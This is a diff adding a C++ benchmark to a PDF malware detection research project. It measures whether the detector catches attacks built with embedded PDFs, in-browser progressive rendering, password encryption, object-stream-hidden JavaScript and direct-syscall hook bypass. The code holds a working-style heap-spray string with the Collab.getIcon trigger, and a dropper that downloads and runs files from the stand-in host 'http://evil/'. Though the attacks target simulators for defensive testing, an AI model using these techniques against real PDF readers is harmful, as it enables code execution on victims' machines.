@@ -1,0 +1,174 @@
+// §VI reproduction: the paper's "Limitations and Future Work" items,
+// implemented and measured. Each row mounts an attack through one of the
+// extension surfaces and reports whether the deployed system handled it:
+//   * embedded PDF documents (recursive instrumentation + correlation)
+//   * in-browser viewer with progressive rendering and process noise
+//   * owner-password-encrypted documents (§III-A password removal)
+//   * object-stream-hidden Javascript (PDF 1.5 /ObjStm evasion)
+//   * IAT-hook bypass via direct syscalls, with and without the
+//     kernel-mode hook hardening
+#include "bench_util.hpp"
+#include "corpus/builders.hpp"
+#include "pdf/crypto.hpp"
+#include "reader/browser_sim.hpp"
+#include "reader/shellcode.hpp"
+
+using namespace pdfshield;
+
+namespace {
+
+std::string spray_and_trigger(const std::string& shellcode) {
+  return "var unit = unescape('%u9090%u9090') + '" + shellcode + "';"
+         "var spray = unit; while (spray.length < 2097152) spray += spray;"
+         "var keep = spray; Collab.getIcon(keep.substring(0, 1500));";
+}
+
+reader::ShellcodeProgram dropper(const std::string& tag, bool direct = false) {
+  reader::ShellcodeProgram prog;
+  const std::string bang = direct ? "!" : "";
+  prog.ops.push_back({bang + "DROP",
+                      {"http://evil/" + tag + ".exe", "c:/" + tag + ".exe"}});
+  prog.ops.push_back({bang + "EXEC", {"c:/" + tag + ".exe"}});
+  return prog;
+}
+
+}  // namespace
+
+int main() {
+  bench::print_header("Sec VI", "Future-work extensions, implemented and measured");
+  support::TextTable table({"extension surface", "attack outcome", "detected",
+                            "payload confined"});
+  bool all_ok = true;
+  auto add = [&](const std::string& surface, const std::string& outcome,
+                 bool detected, bool confined) {
+    table.add_row({surface, outcome, detected ? "yes" : "NO (!)",
+                   confined ? "yes" : "NO (!)"});
+    if (!detected || !confined) all_ok = false;
+  };
+  auto confined = [](sys::Kernel& kernel, const std::string& exe) {
+    return !kernel.fs().exists(exe) && kernel.fs().exists("quarantine://" + exe);
+  };
+
+  // --- embedded PDF attachment ------------------------------------------------
+  {
+    bench::Deployment dep(601);
+    corpus::CorpusGenerator gen;
+    corpus::Sample s = gen.generate_embedded_attack_sample(0);
+    core::FrontEndResult fe = dep.frontend.process(s.data);
+    dep.detector.register_document(fe.record.key, s.name, fe.features);
+    for (const auto& emb : fe.embedded) {
+      dep.detector.register_document(emb.record.key, emb.name, emb.features);
+    }
+    dep.reader.open_document(fe.output, s.name);
+    const bool detected = !fe.embedded.empty() &&
+                          dep.detector.verdict(fe.embedded[0].record.key).malicious;
+    bool loose_exe = false;
+    for (const auto& f : dep.kernel.fs().list()) {
+      if (f.find(".exe") != std::string::npos &&
+          !sys::VirtualFileSystem::is_quarantined(f) &&
+          f.rfind("sandbox://", 0) != 0) {
+        loose_exe = true;
+      }
+    }
+    add("embedded PDF (exportDataObject nLaunch=2)",
+        "attachment opened, exploit fired in embedded context", detected,
+        !loose_exe);
+  }
+
+  // --- in-browser viewer, progressive download --------------------------------
+  {
+    sys::Kernel kernel;
+    support::Rng rng(602);
+    core::DetectorConfig cfg;
+    cfg.process_whitelist.push_back("browser-helper.exe");
+    core::RuntimeDetector detector(kernel, rng, cfg);
+    core::FrontEnd frontend(rng, detector.detector_id());
+    reader::BrowserSim browser(kernel);
+    detector.attach(browser.viewer());
+
+    for (int i = 0; i < 4; ++i) browser.open_web_page("https://tab.example");
+    corpus::DocumentBuilder builder(rng);
+    builder.add_blank_page();
+    builder.set_open_action_js(
+        spray_and_trigger(reader::encode_shellcode(dropper("brw"))));
+    core::FrontEndResult fe = frontend.process(builder.build());
+    detector.register_document(fe.record.key, "brw.pdf", fe.features);
+    browser.open_pdf_streaming(fe.output, "brw.pdf", 6);
+    add("in-browser viewer (6-chunk progressive, 4 noisy tabs)",
+        "exploit fired mid-download", detector.verdict(fe.record.key).malicious,
+        confined(kernel, "c:/brw.exe") && detector.alerts().size() == 1);
+  }
+
+  // --- owner-password encryption ------------------------------------------------
+  {
+    bench::Deployment dep(603);
+    corpus::DocumentBuilder builder(dep.rng);
+    builder.add_blank_page();
+    builder.set_open_action_js(
+        spray_and_trigger(reader::encode_shellcode(dropper("enc"))));
+    pdf::encrypt_document(builder.document(), "anti-analysis-pw", dep.rng);
+    core::FrontEndResult fe = dep.frontend.process(builder.build());
+    dep.detector.register_document(fe.record.key, "enc.pdf", fe.features);
+    dep.reader.open_document(fe.output, "enc.pdf");
+    add("owner-password-encrypted document (RC4, R3)",
+        std::string("front-end removed the password: ") +
+            (fe.password_removed ? "yes" : "no"),
+        dep.detector.verdict(fe.record.key).malicious,
+        confined(dep.kernel, "c:/enc.exe"));
+  }
+
+  // --- object-stream-hidden Javascript ---------------------------------------
+  {
+    bench::Deployment dep(604);
+    corpus::DocumentBuilder builder(dep.rng);
+    builder.add_blank_page();
+    builder.set_open_action_js(
+        spray_and_trigger(reader::encode_shellcode(dropper("ostm"))));
+    builder.pack_js_into_object_stream();
+    core::FrontEndResult fe = dep.frontend.process(builder.build());
+    dep.detector.register_document(fe.record.key, "ostm.pdf", fe.features);
+    dep.reader.open_document(fe.output, "ostm.pdf");
+    add("Javascript hidden in /ObjStm (PDF 1.5)",
+        "chain reconstruction reached into the container",
+        dep.detector.verdict(fe.record.key).malicious,
+        confined(dep.kernel, "c:/ostm.exe"));
+  }
+
+  // --- IAT bypass: prototype hooks vs kernel-mode hardening -------------------
+  for (int kernel_mode = 0; kernel_mode < 2; ++kernel_mode) {
+    sys::Kernel kernel;
+    support::Rng rng(605 + kernel_mode);
+    core::DetectorConfig cfg;
+    cfg.hook_mode = kernel_mode ? core::DetectorConfig::HookMode::kKernelMode
+                                : core::DetectorConfig::HookMode::kIat;
+    core::RuntimeDetector detector(kernel, rng, cfg);
+    core::FrontEnd frontend(rng, detector.detector_id());
+    reader::ReaderSim reader(kernel);
+    detector.attach(reader);
+
+    corpus::DocumentBuilder builder(rng);
+    builder.add_pages(5, 600);  // mimicry-grade: no static feature help
+    builder.add_padding_objects(40);
+    builder.set_open_action_js(spray_and_trigger(
+        reader::encode_shellcode(dropper("dir", /*direct=*/true))));
+    core::FrontEndResult fe = frontend.process(builder.build());
+    detector.register_document(fe.record.key, "dir.pdf", fe.features);
+    reader.open_document(fe.output, "dir.pdf");
+    const bool detected = detector.verdict(fe.record.key).malicious;
+    const bool payload_confined = confined(kernel, "c:/dir.exe");
+    table.add_row(
+        {kernel_mode ? "direct-syscall shellcode vs KERNEL-mode hooks"
+                     : "direct-syscall shellcode vs IAT hooks (prototype)",
+         kernel_mode ? "bypass closed" : "bypass succeeds (known limitation)",
+         detected ? "yes" : (kernel_mode ? "NO (!)" : "no (expected)"),
+         payload_confined ? "yes" : (kernel_mode ? "NO (!)" : "no (expected)")});
+    if (kernel_mode && (!detected || !payload_confined)) all_ok = false;
+  }
+
+  std::cout << table.render("Attacks through the extension surfaces");
+  std::cout << (all_ok ? "all extension surfaces hold (the IAT-bypass row"
+                         " documents the paper's own prototype limitation,"
+                         " closed by kernel-mode hooks).\n"
+                       : "WARNING: an extension surface failed.\n");
+  return all_ok ? 0 : 1;
+}
